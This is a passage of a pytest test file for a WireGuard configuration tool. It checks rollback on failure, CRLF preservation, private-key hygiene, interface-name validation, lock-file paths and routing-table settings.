    r = apply(env, monkeypatch, capsys, MTU)
    assert r["failed"] and r["action"] == "failed" and "ROLLBACK ALSO FAILED" in r["msg"]


def test_crlf_old_file_is_restored_byte_for_byte(env, monkeypatch, capsys):
    system, conf, dummy = env
    apply(env, monkeypatch, capsys, BASE + PEER_B)
    crlf = open(conf, "rb").read().replace(b"\n", b"\r\n")
    open(conf, "wb").write(crlf)
    _fail_once(monkeypatch, wireguard_apply.Host, "up", OSError(errno.EIO, "boom"))
    r = apply(env, monkeypatch, capsys, MTU)
    assert r["action"] == "rolled_back" and open(conf, "rb").read() == crlf


def test_public_key_comes_from_wg_pubkey_on_stdin(env, monkeypatch, capsys):
    system = env[0]
    r = apply(env, monkeypatch, capsys, BASE)
    assert r["public_key"] == PUB
    assert ["wg", "pubkey"] in system.commands
    assert not any(PRIV in arg for c in system.commands for arg in c)


def test_invalid_interface_name(env, monkeypatch, capsys):
    r = apply(env, monkeypatch, capsys, BASE, interface="../../x")
    assert r["failed"] and "not a valid interface name" in r["msg"] and env[0].commands == []


def test_default_lock_is_outside_the_world_writable_run_lock():
    assert wireguard_apply.default_lock_path("wg0") == "/run/netfleet-wireguard-wg0.lock"


@pytest.mark.parametrize("content_table,expected,ok", [
    ("off", "off", True), ("1234", "1234", True), (None, "off", False), ("1234", "off", False), ("off", None, False)])
def test_table_only_as_the_plan_says(env, monkeypatch, capsys, content_table, expected, ok):
    system, conf, dummy = env
    content = HOOKED.replace("[Interface]", "[Interface]\nTable = %s" % content_table) if content_table else HOOKED
    r = apply(env, monkeypatch, capsys, content, expect=dict(EXPECT, table=expected))
    if ok:
        assert r["action"] == "started" and not r.get("failed")
    else:
        assert r["failed"] and "Table" in r["msg"] and system.commands == [] and not os.path.exists(conf)
